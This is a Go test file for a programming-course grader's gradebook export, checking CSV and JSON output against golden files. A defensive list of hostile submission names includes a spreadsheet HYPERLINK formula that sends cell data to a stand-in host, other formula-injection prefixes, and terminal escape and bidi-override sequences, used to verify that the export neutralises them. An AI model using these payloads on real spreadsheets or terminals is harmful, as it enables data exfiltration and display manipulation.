package batch

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"netcourse/grader/internal/textsafe"
)

var update = flag.Bool("update", false, "rewrite golden files")

// sample has a row of each grading status, a name that needs quoting in
// CSV, and a row the grader has no exercise results for.
func sample() *Gradebook {
	return &Gradebook{IDs: []string{"1.1", "1.2"}, Rows: []Row{
		{Submission: "ada", Total: 20, Max: 20, Status: OK, Exercises: map[string]Score{
			"1.1": {Status: "passed", Score: 10, MaxScore: 10},
			"1.2": {Status: "passed", Score: 10, MaxScore: 10},
		}},
		{Submission: "bob", Total: 0, Max: 20, Status: OK, Exercises: map[string]Score{
			"1.1": {Status: "not_started", MaxScore: 10, Message: "there is no folder bob/1.1-tcpclient"},
			"1.2": {Status: "not_started", MaxScore: 10, Message: "not started: open bob/1.2-tcpserver/README.md"},
		}},
		{Submission: `o'neil, "cy"`, Total: 7, Max: 20, Status: BuildError, Detail: "1.1 does not compile: 1.1-tcpclient/client.go:15:58: undefined: hots", Exercises: map[string]Score{
			"1.1": {Status: "build_error", MaxScore: 10, Message: "1.1-tcpclient/client.go:15:58: undefined: hots\n1.1-tcpclient/client.go:16:2: too many errors"},
			"1.2": {Status: "failed", Score: 7, MaxScore: 10},
		}},
		{Submission: "dee", Total: 3, Max: 20, Status: Timeout, Detail: "grading took longer than the limit of 5m0s per submission; what was not graded by then scores 0", Exercises: map[string]Score{
			"1.1": {Status: "failed", Score: 3, MaxScore: 10},
			"1.2": {Status: "timeout", MaxScore: 10, Message: "not graded: the grading run's overall time limit was reached"},
		}},
		{Submission: "eve", Max: 20, Status: InternalError, Detail: "grader panicked: boom", Exercises: map[string]Score{}},
	}}
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (record with go test ./grader/internal/batch -update)", err)
	}
	if diff := cmp.Diff(string(want), string(got)); diff != "" {
		t.Errorf("%s differs (go test -update to record) (-want +got):\n%s", name, diff)
	}
}

func TestCSV(t *testing.T) {
	var buf bytes.Buffer
	if err := CSV(&buf, sample()); err != nil {
		t.Fatal(err)
	}
	golden(t, "gradebook.csv.golden", buf.Bytes())

	// Read back as a spreadsheet would.
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{
		{"submission", "total", "max", "1.1", "1.2", "grading_status", "detail"},
		{"ada", "20", "20", "10", "10", "ok", ""},
		{"bob", "0", "20", "0", "0", "ok", ""},
		{`o'neil, "cy"`, "7", "20", "0", "7", "build_error", "1.1 does not compile: 1.1-tcpclient/client.go:15:58: undefined: hots"},
		{"dee", "3", "20", "3", "0", "timeout", "grading took longer than the limit of 5m0s per submission; what was not graded by then scores 0"},
		{"eve", "0", "20", "", "", "internal_error", "grader panicked: boom"},
	}
	if diff := cmp.Diff(want, recs); diff != "" {
		t.Errorf("CSV read back (-want +got):\n%s", diff)
	}
}

func TestJSON(t *testing.T) {
	var buf bytes.Buffer
	if err := JSON(&buf, sample()); err != nil {
		t.Fatal(err)
	}
	golden(t, "gradebook.json.golden", buf.Bytes())

	// The documented field names, read back without this package's types.
	var rows []map[string]any
	if err := json.Unmarshal(buf.Bytes(), &rows); err != nil {
		t.Fatal(err)
	}
	if len(rows) != 5 {
		t.Fatalf("%d rows, want 5", len(rows))
	}
	cy := rows[2]
	ex, _ := cy["exercises"].(map[string]any)
	e11, _ := ex["1.1"].(map[string]any)
	got := []any{cy["submission"], cy["total"], cy["max"], cy["grading_status"], e11["status"], e11["score"], e11["max_score"]}
	want := []any{`o'neil, "cy"`, 7.0, 20.0, "build_error", "build_error", 0.0, 10.0}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("fields of a row (-want +got):\n%s", diff)
	}
	if _, ok := rows[0]["detail"]; ok {
		t.Error("an ok row has a detail")
	}

	buf.Reset()
	JSON(&buf, &Gradebook{})
	if buf.String() != "[]\n" {
		t.Errorf("empty gradebook = %q, want []", buf.String())
	}
}

// hostileNames are submission folders a spreadsheet would run as formulas,
// and one that would drive a terminal.
var hostileNames = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	"@SUM(1+1)",
	"+1+1",
	"-1+1",
	"\t=1+1",
	"\r\n=1+1",
	"\x1b]0;pwned\a\x1b[2J\u009b\u202eeve\xff",
}

func hostileBook() *Gradebook {
	gb := &Gradebook{IDs: []string{"1.1"}}
	for _, n := range hostileNames {
		gb.Rows = append(gb.Rows, Row{Submission: n, Max: 10, Status: BuildError, Detail: n + "/1.1-tcpclient/client.go:1:1: expected 'package'",
			Exercises: map[string]Score{"1.1": {Status: "build_error", MaxScore: 10, Message: n}}})
	}
	return gb
}

// TestCSVNeutralisesFormulas: no cell a submission named starts a formula,
// and nothing in the file acts on a terminal; the name is still readable.
func TestCSVNeutralisesFormulas(t *testing.T) {
	var buf bytes.Buffer
	if err := CSV(&buf, hostileBook()); err != nil {
		t.Fatal(err)
	}
	if strings.ContainsAny(buf.String(), "\x1b\a\u009b\u202e") || !utf8.Valid(buf.Bytes()) {
		t.Errorf("the CSV holds raw control characters:\n%q", buf.String())
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != len(hostileNames)+1 {
		t.Fatalf("%d records, want %d", len(recs), len(hostileNames)+1)
	}
	for i, rec := range recs[1:] {
		name := hostileNames[i]
		for j, c := range rec {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("row %d column %d starts a formula: %q", i+1, j, c)
			}
		}
		want := textsafe.Escape(name)
		if strings.ContainsRune("=+-@\t\r", rune(want[0])) {
			want = "'" + want
		}
		want = strings.ReplaceAll(want, "\r\n", "\n") // as encoding/csv reads a quoted line break
		if rec[0] != want {
			t.Errorf("submission cell = %q, want %q", rec[0], want)
		}
		if !strings.HasPrefix(rec[len(rec)-1], want) {
			t.Errorf("detail cell = %q, want it to start %q", rec[len(rec)-1], want)
		}
	}
}

// TestJSONKeepsTrueNames: JSON is not evaluated, so a name keeps its
// first character; only what would act on a terminal is escaped.
func TestJSONKeepsTrueNames(t *testing.T) {
	var buf bytes.Buffer
	if err := JSON(&buf, hostileBook()); err != nil {
		t.Fatal(err)
	}
	var rows []Row
	if err := json.Unmarshal(buf.Bytes(), &rows); err != nil {
		t.Fatal(err)
	}
	for i, r := range rows {
		if want := textsafe.Escape(hostileNames[i]); r.Submission != want || r.Exercises["1.1"].Message != want {
			t.Errorf("row %d: submission %q, message %q, want %q", i, r.Submission, r.Exercises["1.1"].Message, want)
		}
	}
	if rows[0].Submission != hostileNames[0] {
		t.Errorf("a formula-like name changed in JSON: %q", rows[0].Submission)
	}
	if strings.ContainsRune(buf.String(), '\u009b') || strings.ContainsRune(buf.String(), '\u202e') {
		t.Error("the JSON holds a raw C1 control or bidi override")
	}
}
